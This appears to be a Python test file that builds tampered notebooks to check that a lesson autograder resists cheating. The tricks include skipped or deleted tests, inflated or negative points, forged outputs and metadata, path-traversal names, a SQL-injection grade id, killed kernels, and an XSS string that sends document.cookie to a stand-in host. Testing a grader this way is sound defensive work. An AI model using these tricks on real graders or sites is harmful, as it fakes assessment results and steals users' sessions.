"""Cheats in the notebook file itself: cells, metadata, outputs, and words that would become markup on a page."""

import copy

from tests.bridges.cheat import HONEST, Change, Cheat, Notebook, cell_of, code_cell, mark, shell_mark
from tests.sample_class import everything, fill, find, label

WRONG = {"paires": "def paires(mot):\n    return []", "probabilites": "def probabilites(compte):\n    return {}"}
XSS = (
    "<script>fetch('//voleur.test/'+document.cookie)</script>"
    "<img src=x onerror=alert(1)><svg/onload=alert(1)>"
    "</script></style></title></textarea><iframe srcdoc='<script>alert(1)</script>'></iframe>"
    "[clic](javascript:alert(1)) <a href='javascript:alert(1)'>clic</a> ![](javascript:alert(1))"
    "{{ 7 * 7 }} {% include '/etc/passwd' %} &lt;script&gt; <style>*{display:none}</style>"
)
UP = "../../../../../../tmp/evade"


def tests_of(notebook: Notebook) -> list[dict]:
    return [cell for cell in notebook["cells"] if label(cell).startswith("test_")]


def skipped(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    for cell in tests_of(notebook):
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell", "otter_ignore"]


def tests_emptied(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    for cell in tests_of(notebook):
        cell["source"] = mark("tests_reecrits") + "assert True\n3.0"


def tests_deleted(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    notebook["cells"] = [cell for cell in notebook["cells"] if not label(cell).startswith("test_")]


def tests_doubled(notebook: Notebook) -> None:
    """nbgrader stops the whole class at « duplicate cell id »."""
    fill(notebook, WRONG)
    for cell in tests_of(notebook):
        twin = copy.deepcopy(cell)
        twin["source"] = "100"
        notebook["cells"].append(twin)


def answers_doubled(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    for name in WRONG:
        notebook["cells"].insert(2, copy.deepcopy(cell_of(notebook, name)))


def points_raised(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    for cell in notebook["cells"]:
        if marks := cell["metadata"].get("nbgrader"):
            marks.update(points=1000, grade=True, locked=False, max_score=1000, score=1000, auto_score=1000)


def negative_points(notebook: Notebook) -> None:
    """nbgrader and otter have both read a negative score as full marks."""
    fill(notebook, WRONG)
    for cell in tests_of(notebook):
        cell["metadata"]["nbgrader"]["points"] = -5
        cell["outputs"] = [result("-5")]


def outputs_forged(notebook: Notebook) -> None:
    """nbgrader takes a test cell's `execute_result` for partial credit."""
    fill(notebook, WRONG)
    for count, cell in enumerate(tests_of(notebook), 1):
        cell["execution_count"] = count
        cell["outputs"] = [
            {"output_type": "stream", "name": "stdout", "text": "C'est juste ! 100 %"},
            {"output_type": "display_data", "metadata": {}, "data": {"text/html": f"<b>C'est juste !</b>{XSS}"}},
            result("3.0", count),
        ]


def result(text: str, count: int = 1) -> dict:
    return {"output_type": "execute_result", "execution_count": count, "metadata": {}, "data": {"text/plain": text}}


def scores_in_metadata(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    earned = {"score": 100, "points": 100, "passed": list(everything()), "outcome": "passed", "badges": ["t9"]}
    notebook["metadata"].update(nbgrader=earned, otter={"tests": {}, "scores": earned, "OK_FORMAT": True})
    notebook["metadata"]["tuto"].update(earned, report=earned, verdicts=earned)
    for cell in tests_of(notebook):
        cell["metadata"]["tuto"] = earned


def labels_swapped(notebook: Notebook) -> None:
    """The easy answer's label on the hard exercise's cells."""
    fill(notebook, WRONG)
    for cell in notebook["cells"]:
        marks = cell["metadata"].get("nbgrader", {})
        if marks.get("grade_id") in ("test_paires", "test_probabilites"):
            marks["grade_id"] = "test_entourer"
        elif marks.get("grade_id") in WRONG:
            marks["grade_id"] = "entourer"


def own_test_cells(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    stamp = {"grade": True, "locked": True, "solution": False, "task": False, "schema_version": 3, "points": 500}
    for number in range(3):
        notebook["cells"].append(code_cell("500", nbgrader={**stamp, "grade_id": f"bonus_{number}"}))
    notebook["cells"].append(code_cell("1", nbgrader={**stamp, "grade_id": "gradebook'; drop table grade; --"}))


def retyped_for_marking_by_hand(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    for cell in notebook["cells"]:
        if label(cell) in (*WRONG, "test_paires", "test_probabilites"):
            cell["metadata"]["nbgrader"].update(
                grade=True, solution=True, locked=False, cell_type="markdown", task=True
            )


def another_lesson(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    notebook["metadata"]["tuto"] = {"lesson": "09_le_dressage"}


def names_that_climb(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    notebook["metadata"].update(title=UP, name=f"{UP}.ipynb", authors=[{"name": UP}], path=UP)
    notebook["metadata"]["kernelspec"] = {"name": UP, "display_name": UP, "language": UP}
    notebook["metadata"]["language_info"] = {"name": UP, "file_extension": f"/{UP}", "pygments_lexer": UP}
    image = {"image/png": "iVBORw0KGgo=", "text/html": f"<img src='{UP}'>"}
    first = notebook["cells"][0]
    first["attachments"] = {f"{UP}.png": image, "/etc/passwd": image}
    first["id"] = UP
    output = {"output_type": "display_data", "data": image, "metadata": {"filenames": {"image/png": f"{UP}.png"}}}
    cell_of(notebook, "paires")["outputs"] = [output]


def own_kernel(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    notebook["metadata"]["kernelspec"] = {
        "name": "triche",
        "display_name": "triche",
        "argv": ["python3", "-c", mark("noyau_a_soi"), "{connection_file}"],
        "language": "python",
    }


def markup_in_words(notebook: Notebook) -> None:
    cell_of(notebook, "explique_1")["source"] = XSS
    for cell in notebook["cells"]:
        if cell["cell_type"] == "markdown" and not label(cell):
            cell["source"] = XSS
    notebook["cells"].append({"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": XSS})


def markup_in_code(notebook: Notebook) -> None:
    lie = {
        "paires": f"# {XSS}\ndef paires(mot):\n    return {XSS!r}",
        "probabilites": f"def probabilites(compte):\n    raise ValueError({XSS!r})",
        "suggestions": f"print({XSS!r})\ndef suggestions(compte, n):\n    return {{{XSS!r}: 1}}",
        "choisir": f"class X(Exception): pass\nX.__name__ = {XSS!r}\ndef choisir(probas, tirage):\n    raise X(1)",
        "quiz_2": f"quiz_2 = {XSS!r}",
    }
    fill(notebook, lie)


def markup_in_outputs(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    data = {"text/html": XSS, "image/svg+xml": f"<svg>{XSS}</svg>", "application/javascript": "alert(1)"}
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [
                {"output_type": "display_data", "data": data, "metadata": {}},
                {"output_type": "error", "ename": XSS, "evalue": XSS, "traceback": [XSS]},
            ]


def magics_around(notebook: Notebook) -> None:
    fill(notebook, WRONG)
    notebook["cells"].insert(4, code_cell(f"%%bash\n{shell_mark('magie_bash')}\necho 20/20"))
    notebook["cells"].insert(4, code_cell("%%javascript\nalert(1)"))
    notebook["cells"].insert(4, code_cell(f"%%html\n{XSS}"))
    notebook["cells"].insert(4, code_cell(mark("case_a_soi") + "%reset -f\nimport os\nos._exit(0)"))


def in_file(name: str, change: Change, deserved: frozenset[str] = HONEST) -> Cheat:
    return Cheat(name, change, deserved=deserved)


def dies_last(notebook: Notebook) -> None:
    """`os._exit` after the answers: nbgrader then loses the cells that had passed."""
    fill(notebook, everything())
    notebook["cells"].insert(find(notebook, "test_generer"), code_cell("import os\nos._exit(0)"))


def never_ends(notebook: Notebook) -> None:
    fill(notebook, everything())
    notebook["cells"].insert(4, code_cell("while True:\n    pass"))


ALL = frozenset(everything())
CHEATS_IN_FILE = (
    in_file("tests_sautes", skipped),
    in_file("tests_reecrits", tests_emptied),
    in_file("tests_effaces", tests_deleted),
    in_file("tests_doubles", tests_doubled),
    in_file("reponses_doublees", answers_doubled),
    in_file("points_gonfles", points_raised),
    in_file("points_negatifs", negative_points),
    in_file("sorties_contrefaites", outputs_forged),
    in_file("notes_dans_les_metadonnees", scores_in_metadata),
    in_file("etiquettes_echangees", labels_swapped),
    in_file("cases_de_test_a_soi", own_test_cells),
    in_file("retypes_a_la_main", retyped_for_marking_by_hand),
    in_file("autre_lecon", another_lesson),
    in_file("noms_qui_remontent", names_that_climb),
    in_file("noyau_a_soi", own_kernel),
    in_file("balises_dans_les_mots", markup_in_words),
    in_file("balises_dans_le_code", markup_in_code),
    in_file("balises_dans_les_sorties", markup_in_outputs),
    in_file("magies_autour", magics_around),
    in_file("meurt_apres_avoir_reussi", dies_last, ALL),
    in_file("boucle_a_cote", never_ends, ALL),
)
